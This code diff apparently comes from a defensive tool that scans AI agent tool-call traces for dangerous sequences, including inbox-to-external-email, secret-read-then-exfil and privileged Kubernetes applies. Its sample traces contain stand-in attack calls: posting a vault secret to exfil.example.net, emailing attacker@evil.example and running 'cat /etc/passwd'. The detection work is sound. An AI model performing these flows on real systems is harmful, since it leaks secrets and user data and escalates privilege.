@@ -16,11 +16,12 @@ TOOL_META, VALUE_META = set("^$.*+?[]()|"), set("^$.*+?[]()|\\")
 
 @dataclass(frozen=True)
 class Step:
-    """A call of a tool whose arguments match (dotted path -> text or regular expression). A guard step
-    between two others voids the flow if it occurs there."""
+    """A call of a tool whose arguments match (dotted path -> matcher). A matcher that is text finds text alone,
+    by equality or, if it has meta characters, as a regular expression; one of another type equals values of
+    that type. A guard step voids the flow if it occurs before the positive step that follows it."""
 
     tool: str
-    args: dict[str, str] = field(default_factory=dict)
+    args: dict[str, Any] = field(default_factory=dict)
     guard: bool = False
 
 
@@ -68,9 +69,9 @@ class Budget:
 Rule = Flow | Loop | Rate | Budget
 _KINDS = {"flow": Flow, "loop": Loop, "rate": Rate, "budget": Budget}
 
-#: The bundled pack.
+# Names, descriptions and patterns of the bundled pack; names and descriptions go into audit reasons.
 DEFAULT_PACK: tuple[Rule, ...] = (
-    Flow("inbox-to-external-email", (Step("inbox_read"), Step("email_send", {"to": r"@(?!(?:[\w.-]+\.)?(?:internal|local)$)"})), "Read an inbox then send email to an external recipient (data exfiltration)"),
+    Flow("inbox-to-external-email", (Step("inbox_read"), Step("email_send", {"to": r"^[^@\s]+@(?!(internal\.local|corp\.local|example\.org)$)[^@\s]+\.[^@\s]+$"})), "Read an inbox then send email to an external recipient (data exfiltration)"),
     Flow("secret-read-then-exfil", (Step(r"(?i)(secret|vault|kms)_?(read|get).*"), Step(r"(?i)(http|curl|fetch|webhook).*post", {"url": r"^https?://(?!localhost|127\.0\.0\.1|10\.|192\.168\.|.*\.svc\.cluster\.local)"})), "Read a secret then push it to an external HTTP endpoint"),
     Flow("shell-read-then-k8s-apply", (Step(r"(?i)(shell|bash|exec|terminal).*"), Step(r"(?i)(kubernetes|k8s|kubectl).*apply", {"manifest": "(cluster-admin|privileged|hostPath|hostPID)"})), "Run a shell command then apply a privileged k8s manifest (privilege escalation)"),
     Loop("denied-tool-retry-loop", 3, "Same tool+args call repeated 3+ times in the window (injection retry loop)"),
@@ -89,22 +90,47 @@ def tool_is(tool: Column, matcher: str, wildcard: bool = False) -> Column:
     return tool.rlike("(?U)" + matcher) if is_regex(matcher) else tool == matcher
 
 
-def json_path(path: str) -> str:
-    """A dotted path as a JSON path: numbers are list places."""
-    return "$" + "".join(f"[{p}]" if p.isdigit() else f".{p}" if re.fullmatch(r"\w+", p) else f"['{p}']" for p in path.split("."))
+def argument_value(args: Column, path: str) -> Column:
+    """The variant at a dotted path of an object given as JSON text; null where there is none. A number is a
+    member's name or else a place in a list, from its end if it is negative."""
+    value = F.try_parse_json(args)
+    for part in path.split("."):
+        quote = '"' if "'" in part else "'"
+        member = F.try_variant_get(value, f"$[{quote}{part}{quote}]", "variant")
+        if re.fullmatch(r"-?\d+", part):
+            place = F.lit(int(part) + (int(part) >= 0))
+            member = F.coalesce(member, F.try_element_at(F.try_variant_get(value, "$", "array<variant>"), place))
+        value = member
+    return value
 
 
 def argument(args: Column, path: str, kind: str = "string") -> Column:
-    """The value at a dotted path of an object given as JSON text; null where there is none."""
-    return F.try_variant_get(F.try_parse_json(args), json_path(path), kind)
+    """The value at a dotted path, cast; null where there is none or it can't be cast."""
+    return F.try_variant_get(argument_value(args, path), "$", kind)
+
+
+def argument_is(args: Column, path: str, matcher: Any) -> Column:
+    """Whether the value at a path fits a matcher; never null."""
+    value = argument_value(args, path)
+    kind = F.schema_of_variant(value)
+    if matcher is None:
+        return F.coalesce(kind == "VOID", F.lit(True))
+    if isinstance(matcher, str):
+        text = F.try_variant_get(value, "$", "string")
+        found = (kind == "STRING") & (text.rlike("(?U)" + matcher) if is_regex(matcher, VALUE_META) else text == matcher)
+    elif isinstance(matcher, int | float):  # truth values count as 1 and 0
+        number = F.when(kind == "BOOLEAN", F.try_variant_get(value, "$", "boolean").cast("double"))
+        found = number.when(kind != "STRING", F.try_variant_get(value, "$", "double")).otherwise(None) == float(matcher)
+    else:
+        found = F.to_json(value) == json.dumps(matcher, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
+    return F.coalesce(found, F.lit(False))
 
 
 def step_is(tool: Column, args: Column, step: Step) -> Column:
     """Whether a call is this step: the tool and every argument."""
     found = tool_is(tool, step.tool)
     for path, matcher in step.args.items():
-        value = argument(args, path)
-        found = found & F.coalesce(value.rlike("(?U)" + matcher) if is_regex(matcher, VALUE_META) else value == matcher, F.lit(False))
+        found = found & argument_is(args, path, matcher)
     return F.coalesce(found, F.lit(False))
 
 
@@ -120,11 +146,19 @@ def resolve(data: Any, path: str) -> Any:
     return data
 
 
+def fits(matcher: Any) -> Callable[[Any], bool]:
+    """As `argument_is`, of Python values."""
+    if isinstance(matcher, str):
+        search = re.compile(matcher).search if is_regex(matcher, VALUE_META) else matcher.__eq__
+        return lambda value: isinstance(value, str) and bool(search(value))
+    return lambda value: value == matcher
+
+
 def python_step(step: Step) -> Callable[[str, Any], bool]:
     """The step as a function of tool and parsed arguments."""
-    tool = re.compile(step.tool).search if is_regex(step.tool) else lambda t, s=step.tool: t == s
-    args = [(p, re.compile(m).search if is_regex(m, VALUE_META) else (lambda v, m=m: v == m)) for p, m in step.args.items()]
-    return lambda t, a: bool(tool(t)) and all(isinstance(v := resolve(a, p), str) and bool(f(v)) for p, f in args)
+    tool = re.compile(step.tool).search if is_regex(step.tool) else step.tool.__eq__
+    args = [(path, fits(matcher)) for path, matcher in step.args.items()]
+    return lambda t, a: bool(tool(t)) and all(fit(resolve(a, path)) for path, fit in args)
 
 
 def to_json(pack: Sequence[Rule]) -> str:
@@ -153,34 +187,47 @@ def from_json(text: str) -> tuple[Rule, ...]:
 
 def lint(pack: Sequence[Rule]) -> list[str]:
     """What is wrong with a pack, in words; empty if nothing is."""
-    out, seen = [], set()
+    names = [r.name for r in pack]
+    out = [f"{names.count(n)} rules are called {n!r}" for n in dict.fromkeys(names) if names.count(n) > 1]
     for r in pack:
-        say = lambda what, r=r: out.append(f"rule {r.name!r}: {what}")
-        if not r.name:
-            say("missing name")
-        if r.name in seen:
-            say("duplicate name")
-        seen.add(r.name)
-        match r:
-            case Flow(steps=()):
-                say("no steps")
-            case Flow(steps=steps):
-                if all(s.guard for s in steps):
-                    say("no positive steps")
-                if steps[0].guard:
-                    say("step 0 is a guard; guards only arm after a positive step")
-            case Loop(threshold=n) if n < 2:
-                say("threshold must be at least 2")
-            case Rate(window_s=w, max_calls=n):
-                if w <= 0:
-                    say("window_s must be above 0")
-                if n < 1:
-                    say("max_calls must be at least 1")
-            case Budget(field=f, max_total=m, window_s=w):
-                if not f:
-                    say("field must not be empty")
-                if m <= 0:
-                    say("max_total must be above 0")
-                if w <= 0:
-                    say("window_s must be above 0")
+        out += [f"rule {r.name!r}: {what}" for bad, what in _faults(r) if bad]
     return out
+
+
+def _faults(r: Rule) -> list[tuple[bool, str]]:
+    """What can be wrong with one rule, and whether it is."""
+    found = [(not r.name, "a rule needs a name")]
+    match r:
+        case Flow(steps=steps):
+            found += [(not steps, "a flow needs steps"), (bool(steps) and all(s.guard for s in steps), "a flow of guards alone never completes"), (bool(steps) and steps[0].guard, "a guard has nothing to void before the first step")]
+            found += [(not s.tool, "a step needs a tool") for s in steps]
+        case Loop(threshold=n):
+            found.append((n < 2, f"a call can't repeat {n} times"))
+        case Rate(max_calls=n):
+            found.append((n < 1, "a limit of less than one call forbids every call"))
+        case Budget(field=path, max_total=total):
+            found += [(not path, "a budget needs the path of a number"), (total <= 0, "a budget needs a total above 0")]
+    if isinstance(r, Rate | Budget):
+        found.append((r.window_s <= 0, "the time window is empty"))
+    patterns = [s.tool for s in r.steps] + [m for s in r.steps for m in s.args.values() if isinstance(m, str)] if isinstance(r, Flow) else [getattr(r, "tool", "*")]
+    return found + [(_broken(p), f"{p!r} is no regular expression") for p in patterns]
+
+
+def _broken(pattern: str) -> bool:
+    try:
+        re.compile(pattern if is_regex(pattern, VALUE_META) else "")
+    except re.error:
+        return True
+    return False
+
+
+# Calls that the bundled pack is tried on, by the name of what they show.
+SAMPLES: dict[str, list[tuple[str, dict[str, Any]]]] = {
+    "empty": [],
+    "benign-plan": [("inbox_read", {}), ("fs_read", {"path": "/tmp/notes.txt"}), ("inbox_read", {})],
+    "inbox-to-external-email": [("inbox_read", {}), ("email_send", {"to": "attacker@evil.example"})],
+    "secret-read-then-exfil": [("vault_read", {"key": "db"}), ("http_post", {"url": "https://exfil.example.net/c"})],
+    "shell-then-k8s-apply": [("shell_exec", {"cmd": "cat /etc/passwd"}), ("k8s_apply", {"manifest": "cluster-admin binding"})],
+    "retry-loop": [("fs_write", {"path": "/etc/x"})] * 3,
+    "rate-spray": [("fs_read", {"path": f"/f/{i}"}) for i in range(31)],
+}
